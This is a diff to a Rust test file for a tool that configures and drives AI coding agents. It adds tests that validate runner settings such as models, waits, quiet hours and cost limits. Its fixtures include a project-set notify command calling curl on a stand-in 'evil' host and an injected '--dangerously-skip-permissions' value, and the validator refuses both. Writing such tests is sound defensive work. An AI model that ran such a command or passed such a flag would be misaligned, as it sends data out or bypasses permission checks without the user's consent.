@@ -60,6 +60,7 @@ fn told(error: &ConfigError) -> String {
 fn the_built_in_text_means_the_built_in_policy() {
     let config = Place::new().load().unwrap();
     assert_eq!(config.policy, Policy::default());
+    assert_eq!(config.runner, Settings::DEFAULT);
     assert!(config.file.is_none());
     assert!(config.origins.iter().all(|origin| origin.place.layer == Layer::BuiltIn));
     // Without the comments and what gates start from it is what `ralph config` prints.
@@ -67,7 +68,9 @@ fn the_built_in_text_means_the_built_in_policy() {
         let lines =
             text.lines().filter(|line| !line.starts_with('#')).collect::<Vec<_>>().join("\n");
         let blocks = lines.split("\n\n").map(|block| block.trim().to_string());
-        let is_policy = |block: &String| !block.starts_with("[[") && !block.starts_with("[notify]");
+        let is_policy = |block: &String| {
+            !["[[", "[runner]", "[notify]"].iter().any(|other| block.starts_with(other))
+        };
         blocks.filter(|block| !block.is_empty() && is_policy(block)).collect::<Vec<_>>()
     };
     assert_eq!(written(config.to_toml()), written(DEFAULTS));
@@ -88,7 +91,9 @@ fn sample(key: &Key) -> String {
         Kind::Wildcard => "\"other*\"".to_string(),
         Kind::Choice(choices) => format!("\"{}\"", choices.last().unwrap()),
         Kind::Choices(choices) => format!("[\"{}\"]", choices.last().unwrap()),
-        Kind::Argv | Kind::Names => "[\"other\"]".to_string(),
+        Kind::Model => "\"claude-opus-5-5[1m]\"".to_string(),
+        Kind::Hours => "\"22:00-06:30\"".to_string(),
+        Kind::Argv | Kind::Arguments | Kind::Names => "[\"other\"]".to_string(),
         Kind::Shell | Kind::Text | Kind::Regex => "\"some text\"".to_string(),
         Kind::Globs => "[\"**/*.rs\"]".to_string(),
         Kind::Directory => "\"web/\"".to_string(),
@@ -167,11 +172,11 @@ fn a_table_of_the_person_s_own_is_read_from_their_file_alone() {
     for (section, key) in
         own.flat_map(|section| section.kind.keys().iter().map(move |key| (section, key)))
     {
-        let before = notify(&Home::new(place.path("elsewhere"))).unwrap();
+        let before = (notify(&Home::new(place.path("elsewhere"))).unwrap(), &policy.runner);
         let text = saying(&section.heading(), Some(key)).replace("= false", "= true");
         place.write("home/config.toml", &text);
-        assert_ne!(notify(&home).unwrap(), before, "{text}");
         let config = place.load().unwrap_or_else(|error| panic!("{text}{}", told(&error)));
+        assert_ne!((notify(&home).unwrap(), &config.runner), before, "{text}");
         assert_eq!(
             (&config.policy, config.to_toml()),
             (&policy.policy, policy.to_toml()),
@@ -184,8 +189,117 @@ fn a_table_of_the_person_s_own_is_read_from_their_file_alone() {
         project("[run]\nstuck_after = 4\n\n[notify]\ncommand = ['curl', 'evil']\nbel = 1\n");
     assert_snapshot!(told(&refused.unwrap_err()), @"
     4: `[notify]` cannot be set by a project  [notify]
-         it runs and sends things in your name: put it into your own `~/.ralph/config.toml`
+         it runs, sends or spends in your name: put it into your own `~/.ralph/config.toml`
     ");
+}
+
+/// R-K2c: whether and how long a limit is waited for is a person's to say.
+#[test]
+fn how_a_runner_drives_is_a_person_s_to_say() {
+    let place = Place::new();
+    place.write(
+        "home/config.toml",
+        r#"
+[runner]
+sessions = "fresh-per-feature"
+model = "sonnet"
+stronger_model = "us.anthropic.claude-opus-5-5:0"
+agent_arguments = ["--mcp-config", "my servers.json", ""]
+idle_after = "2m"
+question_after = "0s"
+wait_for_limits = "12h"
+max_resumes = 2
+limit_jitter = "30s"
+quiet_hours = "22:00-06:30"
+max_window_share = 0.25
+wait_for_errors = "20m"
+worst_turn_usd = 2.5
+max_cost_per_day_usd = 40
+"#,
+    );
+    place.write("project/ralph.toml", "run.max_tokens = 50_000_000\n");
+    let config = place.load().unwrap();
+    assert_eq!(config.policy.limits.max_tokens, Some(50_000_000));
+    assert_eq!(
+        serde_json::to_value(&config.runner).unwrap(),
+        serde_json::json!({
+            "agent": "claude",
+            "sessions": "fresh-per-feature",
+            "model": "sonnet",
+            "stronger_model": "us.anthropic.claude-opus-5-5:0",
+            "arguments": ["--mcp-config", "my servers.json", ""],
+            "idle_ms": 120_000,
+            "question_ms": 0,
+            "waits": {
+                "limit_ms": 43_200_000,
+                "resumes": 2,
+                "jitter_ms": 30_000,
+                "errors_ms": 1_200_000,
+                "quiet": [1320, 390],
+                "share_permille": 250,
+            },
+            "worst_turn_micro_usd": 2_500_000,
+            "day_micro_usd": 40_000_000,
+        })
+    );
+}
+
+#[test]
+fn a_mistake_about_the_runner_is_told() {
+    let place = Place::new();
+    place.write(
+        "home/config.toml",
+        r#"
+[runner]
+session = "hybrid"
+sessions = "fresh"
+model = "--dangerously-skip-permissions"
+stronger_model = "two words"
+agent_arguments = "--verbose"
+idle_after = "1s"
+wait_for_limits = true
+max_resumes = 1001
+quiet_hours = "22:00-22:00"
+max_window_share = 0
+max_cost_per_day = 3
+"#,
+    );
+    assert_snapshot!(told(&place.load().unwrap_err()), @r#"
+    3: unknown key `session`  [session]
+         did you mean `sessions`?
+    4: `runner.sessions` cannot be `"fresh"`  ["fresh"]
+         did you mean `"fresh-per-feature"`?
+    5: `runner.model` cannot be `"--dangerously-skip-permissions"`  ["--dangerously-skip-permissions"]
+         1 to 200 letters, digits and signs without a space are needed, no `-` first
+    6: `runner.stronger_model` cannot be `"two words"`  ["two words"]
+         1 to 200 letters, digits and signs without a space are needed, no `-` first
+    7: `runner.agent_arguments` cannot be `"--verbose"`  ["--verbose"]
+         a list of words is needed: `["--verbose"]`
+    8: `runner.idle_after` cannot be `"1s"`  ["1s"]
+         a duration such as `"90s"` or `"5m"` is needed, at most `"24h"`
+    9: `runner.wait_for_limits` cannot be `true`  [true]
+         a duration such as `"90m"` or `"8h"` is needed
+    10: `runner.max_resumes` cannot be `1001`  [1001]
+         a whole number from 0 to 1000 is needed
+    11: `runner.quiet_hours` cannot be `"22:00-22:00"`  ["22:00-22:00"]
+         two different times of a day are needed, such as `"22:00-06:00"`
+    12: `runner.max_window_share` cannot be `0`  [0]
+         a number above 0 and up to 1 is needed, such as `0.8`
+    13: unknown key `max_cost_per_day`  [max_cost_per_day]
+         did you mean `max_cost_per_day_usd`?
+    "#);
+    for odd in [
+        "24:00-06:00",
+        "2:00-06:00",
+        "22:60-06:00",
+        "22:00",
+        "+1:00-06:00",
+        "22:00-06:00-07:00",
+        "",
+    ] {
+        place.write("home/config.toml", format!("runner.quiet_hours = \"{odd}\"\n"));
+        assert!(place.load().is_err(), "{odd}");
+    }
 }
 
 #[test]
